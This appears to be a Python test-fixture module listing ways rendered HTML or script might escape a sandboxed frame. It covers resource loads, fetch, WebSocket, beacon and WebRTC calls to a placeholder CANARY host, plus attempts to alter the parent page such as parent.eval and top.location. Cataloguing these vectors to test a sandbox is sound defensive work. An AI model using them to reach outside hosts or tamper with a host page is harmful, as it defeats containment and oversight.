"""Ways in which an artifact may try to leave its frame; CANARY is a host that nothing may reach."""

from __future__ import annotations

_PEER = (
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:CANARY' }] });"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
)
_FRAME = f'<iframe srcdoc="<script>{_PEER}</script>"></iframe>'
_QUOTED = _FRAME.replace("</script>", "<\\/script>")

# By themselves, without a script.
MARKUP = [
    "<img src=http://CANARY/img srcset='http://CANARY/srcset 2x'>",
    "<svg><image href=http://CANARY/image /><use href=http://CANARY/use#x /></svg>",
    "<video src=http://CANARY/video poster=http://CANARY/poster></video><audio src=http://CANARY/audio></audio>",
    "<link rel=stylesheet href=http://CANARY/css><style>@import 'http://CANARY/import';"
    "body { background: url(http://CANARY/background) }"
    "@font-face { font-family: x; src: url(http://CANARY/font) }</style><p style='font-family: x'>x",
    "<link rel=preconnect href=http://CANARY/><link rel=dns-prefetch href=http://CANARY/>",
    "<link rel=prefetch href=http://CANARY/prefetch><link rel=preload as=image href=http://CANARY/preload>",
    "<link rel=modulepreload href=http://CANARY/module><link rel=manifest href=http://CANARY/manifest>",
    "<link rel=icon href=http://CANARY/icon>",
    "<meta http-equiv=refresh content='0;url=http://CANARY/refresh'>",
    "<base href=http://CANARY/><img src=based>",
    "<iframe src=http://CANARY/iframe></iframe><object data=http://CANARY/object></object>",
    "<embed src=http://CANARY/embed>",
    "<iframe srcdoc='<img src=http://CANARY/srcdoc>'></iframe>",
    "<script src=http://CANARY/script></script>",
    '<script type=speculationrules>{"prefetch": [{"urls": ["http://CANARY/rules"]}]}</script>',
    _FRAME,
    f'<iframe src="javascript:{_PEER}"></iframe>',
    f"<div><template shadowrootmode=open>{_FRAME}</template></div>",
]
# What scripts do.
SCRIPTS = [
    "fetch('http://CANARY/fetch')",
    "const x = new XMLHttpRequest(); x.open('GET', 'http://CANARY/xhr'); x.send()",
    "new WebSocket('ws://CANARY/socket')",
    "new EventSource('http://CANARY/events')",
    "new WebTransport('https://CANARY/transport')",
    "navigator.sendBeacon('http://CANARY/beacon', 'x')",
    "import('http://CANARY/module')",
    "new Worker(URL.createObjectURL(new Blob([\"fetch('http://CANARY/worker')\"])))",
    "location = 'http://CANARY/location'",
    "location = 'data:text/html,<img src=http://CANARY/data>'",
    "location = URL.createObjectURL(new Blob(['<img src=http://CANARY/blob>'], { type: 'text/html' }))",
    "top.location = 'http://CANARY/top'",
    "open('http://CANARY/open')",
    "const f = Object.assign(document.createElement('form'), { action: 'http://CANARY/form' });"
    "document.documentElement.append(f); f.submit()",
    "const a = Object.assign(document.createElement('a'), { href: 'http://CANARY/a' });"
    "a.ping = 'http://CANARY/ping';"
    "document.documentElement.append(a); a.click(); a.target = '_blank'; a.click()",
    _PEER,
    f"document.documentElement.append(document.createRange().createContextualFragment(`{_QUOTED}`))",
    f"const d = document.createElement('div'); d.attachShadow({{ mode: 'closed' }}).innerHTML = `{_QUOTED}`;"
    "document.documentElement.append(d)",
    "const d = document.createElement('div'); document.documentElement.append(d);"
    f"d.setHTMLUnsafe(`<div><template shadowrootmode=open>{_QUOTED}</template></div>`)",
    f"setTimeout(() => {{ document.open(); document.write(`{_QUOTED}`); document.close() }})",
    f"setTimeout(() => {{ document.documentElement.innerHTML = `{_QUOTED}` }})",
]
# What would change the page.
TOUCH = [
    "parent.hacked = 1",
    "parent.document.title = 'hacked'",
    "parent.localStorage.hacked = 1",
    "localStorage.hacked = 1",
    "parent.postMessage('hacked', '*')",
    "parent.eval('hacked = 1')",
    "top.location = 'about:blank#hacked'",
]

CONTROL = f"<img src=http://CANARY/control><script>{_PEER}</script>"
STILL = [*MARKUP, *(f'<svg onload="{each.replace(chr(34), "&quot;")}"></svg>' for each in SCRIPTS)]
RUNNING = [*MARKUP, *(f"<body><script>{each}</script>" for each in [*SCRIPTS, *TOUCH])]
